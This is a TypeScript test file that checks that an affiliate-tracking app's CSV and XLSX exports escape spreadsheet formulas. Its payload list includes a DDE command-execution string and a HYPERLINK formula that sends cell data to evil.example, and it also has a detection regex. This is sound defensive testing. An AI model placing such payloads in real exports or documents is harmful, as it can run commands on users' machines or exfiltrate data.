// CSV injection: formulas in every writable text field never reach a spreadsheet through any export.
import type { Endpoint } from '@rivulet/contract/endpoints/define-endpoint'
import { endpoints } from '@rivulet/contract/endpoints/endpoint'
import { allows, canWrite, fieldsOf, listPathOf, type Resource } from '@rivulet/contract/resource'
import type { ResourceName } from '@rivulet/contract/resources/index'
import { parse } from 'csv-parse/sync'
import { strFromU8, unzipSync } from 'fflate'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { storeHits } from '../click/ingest/store-hits.ts'
import { ownedRecordsOf } from '../testing/owned-records.ts'
import { draftOf } from '../testing/draft.ts'
import { makeHit } from '../testing/hits.ts'
import { createWholeApp, every, type WholeApp } from '../testing/whole-app.ts'

const formulas = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＠SUM(1)',
  '=HYPERLINK("https://evil.example/?x="&A1,"x")',
]
const dangerous = /^[=+\-@\t\r\n＝＋－＠]/
const isNumber = /^-?\d+(\.\d+)?$/

let server: WholeApp
beforeAll(async () => {
  server = await createWholeApp()
  const { id } = await server.account('Affiliate', { name: formulas[0] ?? '' })
  const { sql } = server
  const link = (await ownedRecordsOf(server, id)).get('link') ?? 0
  const hits = formulas.map((text) =>
    makeHit(link, server.deps.now().toISOString(), {
      subIds: [text, text, null, null, null],
      agent: text,
      referrer: text,
    }),
  )
  await storeHits(sql, 'Europe/Brussels', hits)
  // Texts sent by shops about orders.
  for (const [i, text] of formulas.entries())
    await sql`update shop_order set order_number = ${`${text} ${i}`} where id = (select id from shop_order order by id offset ${i} limit 1)`
  for (const resource of every.filter((r) => allows(r, 'add')))
    for (const formula of formulas.slice(0, resource.name === 'reconciliation' ? 1 : 5))
      await write(resource, formula)
})
afterAll(() => server.close())

/** A record with the formula in every field that accepts it. */
async function write(resource: Resource, formula: string): Promise<void> {
  const draft = await draftOf(server.make, resource.name as ResourceName)
  for (const [name, field] of fieldsOf(resource)) {
    const free = field.kind === 'longText' || (field.kind === 'text' && !field.format && !field.sealed)
    if (!free || !canWrite(field, true)) continue
    const changed = { ...draft, [name]: formula }
    const { meta } = await server.call('POST', resource.path, changed)
    if (!meta.errors?.[name]) draft[name] = formula
  }
}

const files = [
  ...every.map((r) => `${listPathOf(r)}/export?`),
  ...Object.values<Endpoint>(endpoints).flatMap(({ path, file, query }) =>
    file && query ? [`${path}?${path.includes('sub-id') ? 'by=s1&' : ''}`] : [],
  ),
]

let met = 0
describe.each(files)('%s', (path) => {
  test('B7 R29 S2.34 no CSV cell starts a formula, and texts in a workbook are typed as text', async () => {
    const { status, text } = await server.call('GET', `${path}format=csv`)
    expect(status).toBe(200)
    const rows: string[][] = parse(text, { bom: true, relax_column_count: true })
    const cells = rows.flat()
    expect(cells.filter((cell) => dangerous.test(cell) && !isNumber.test(cell))).toEqual([])
    const kept = cells.filter((cell) => cell.startsWith("'") && dangerous.test(cell.slice(1)))
    met += kept.length
    const book = await server.app.inject({
      url: `/api/v1${path}format=xlsx`,
      headers: server.admin.headers,
    })
    const sheet = strFromU8(unzipSync(book.rawPayload)['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
    expect(sheet).toContain('<sheetData>')
    expect(sheet).not.toMatch(/<f[ >]/)
    // A cell is a number, or explicitly typed text.
    const odd = (sheet.match(/<c[ >].*?<\/c>/gs) ?? []).filter(
      (cell) =>
        !/^<c r="[A-Z]+\d+" s="\d" t="inlineStr"><is><t/.test(cell) &&
        !/^<c r="[A-Z]+\d+" s="\d"><v>-?\d+(\.\d+)?<\/v><\/c>$/.test(cell),
    )
    expect(odd).toEqual([])
  })
})

test('B7 R29 formulas were present in these files, each escaped with an apostrophe', () => {
  expect(met).toBeGreaterThan(40)
})
